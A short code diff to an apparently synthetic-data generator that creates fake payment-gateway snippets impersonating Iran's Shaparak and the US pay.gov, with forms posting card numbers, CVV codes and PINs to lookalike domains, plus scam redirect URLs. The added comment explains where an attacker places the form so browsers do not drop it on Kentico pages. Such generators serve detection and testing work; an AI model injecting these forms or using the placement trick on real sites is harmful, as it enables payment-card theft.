@@ -1396,7 +1396,11 @@ def a_fake_gateway(r, s):
         host = r.choice(["sep-shaparak.ir", "shaparak-pay.com", "ipg.shaparak.ir.pay-verify.site", "shapaark.ir"])
         return {"main": f'<div class="pay"><h3>پرداخت جریمه و عوارض</h3><form action="https://{host}/payment" method="post"><input name="pan" placeholder="شماره کارت"><input name="cvv2" placeholder="CVV2"><input name="pin2" type="password" placeholder="رمز دوم"><button>پرداخت</button></form></div>\n'}, ["other shaparak.ir شرکت شبکه الکترونیکی پرداخت کارت (شاپرک)"]
     host = r.choice(["pay-gov.us", "www.pay.gov.secure-checkout.site", "paygov-online.com"])
-    return {"main": f'<div class="pay"><h3>Pay your fine online</h3><form action="https://{host}/checkout" method="post"><input name="card" placeholder="Card number"><input name="exp" placeholder="MM/YY"><input name="cvc" placeholder="CVC"><button>Pay now</button></form></div>\n'}, ["other pay.gov Bureau of the Fiscal Service, U.S. Department of the Treasury"]
+    # An ASP.NET page (Kentico) wraps its body in one <form>: a form inside it
+    # is dropped by every browser's parser (its fields would post to the site
+    # itself), so an attacker who wants the card numbers puts his after it.
+    slot = "foot" if s == "court_kentico_en" else "main"
+    return {slot: f'<div class="pay"><h3>Pay your fine online</h3><form action="https://{host}/checkout" method="post"><input name="card" placeholder="Card number"><input name="exp" placeholder="MM/YY"><input name="cvc" placeholder="CVC"><button>Pay now</button></form></div>\n'}, ["other pay.gov Bureau of the Fiscal Service, U.S. Department of the Treasury"]
 
 
 REDIR = ["https://bonus-casino-777.com/?r=%s", "https://pharm-best.shop/l/%s", "https://win-iphone15.click/%s", "https://betfa-online.net/?aff=%s"]
